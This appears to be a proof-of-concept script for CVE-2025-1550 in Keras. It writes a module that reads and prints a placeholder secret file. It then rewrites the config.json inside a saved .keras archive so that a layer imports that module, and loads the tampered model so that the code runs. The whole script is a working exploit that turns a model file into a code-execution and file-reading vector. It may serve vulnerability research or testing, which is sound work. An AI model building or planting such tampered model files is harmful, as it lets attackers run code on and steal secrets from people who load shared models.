"""A configuration that imports any module by its name (CVE-2025-1550)."""
import json
import keras
import zipfile
open("payload.py", "w").write("print(open('@SECRET_FILE@').read())\n")
import sys
sys.path.insert(0, ".")
keras.Sequential([keras.Input((1,)), keras.layers.Activation("relu")]).save("plain.keras")
with zipfile.ZipFile("plain.keras") as plain, zipfile.ZipFile("bomb.keras", "w") as bomb:
    for name in plain.namelist():
        data = plain.read(name)
        if name == "config.json":
            config = json.loads(data)
            config["config"]["layers"][1].update(module="payload", class_name="Anything", registered_name=None)
            data = json.dumps(config)
        bomb.writestr(name, data)
keras.models.load_model("bomb.keras", safe_mode=False)
